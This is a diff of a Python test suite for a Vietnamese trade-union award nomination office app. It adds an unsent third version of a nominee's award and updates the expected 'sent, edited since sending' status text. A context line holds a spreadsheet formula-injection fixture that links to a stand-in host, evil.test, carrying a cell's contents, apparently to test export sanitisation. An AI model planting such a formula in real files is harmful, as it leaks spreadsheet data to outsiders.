@@ -46,6 +46,7 @@ HYPERLINK = '=HYPERLINK("http://evil.test/?x="&A1,"Bấm vào đây")'
 BINH_MINH = "CĐCS Công ty TNHH Cơ khí Bình Minh"
 BENH_VIEN = "Công đoàn cơ sở Bệnh viện Quận 1"
 LE_LOI = "CĐCS Trường THCS Lê Lợi"
+UNSENT_AWARD = "Giấy khen (sửa sau lần gửi, chưa gửi)"
 FIRST_SENT = dt.datetime(2020, 2, 8, 3, 15, tzinfo=dt.UTC)  # 10:15 ngày 08/02/2020
 SECOND_SENT = dt.datetime(2020, 2, 9, 8, 30, tzinfo=dt.UTC)  # 15:30 ngày 09/02/2020
 
@@ -71,6 +72,7 @@ def office_app(make_app):
         session.refresh(lan)
         send(session, binh_minh, [lan, evil], SECOND_SENT, scan=True)
         add_nominee(binh_minh, "NMINH234", "Đỗ Văn Minh", 3)
+        add_version(lan, 3, individual_data("Nguyễn Thị Lan", award=UNSENT_AWARD))
         binh_minh.changed_since_sent = True
         # Bệnh viện: sent once, one nominee.
         benh_vien = open_dossier(session, "DBV23456", BENH_VIEN, "Công đoàn ngành Y tế")
@@ -206,7 +208,7 @@ def test_office_call_page_expands_a_dossier_to_its_nominees(quan1):
             "Nguyễn Thị Lan Cá nhân, mã NLAN2345",
             "Đối tượng 3",
             "Bằng khen của Liên đoàn Lao động thành phố",
-            "Đã gửi",
+            "Đã gửi Đơn vị đã sửa sau lần gửi (bản 3 chưa gửi)",
             "PDF DOCX",
         ],
         [
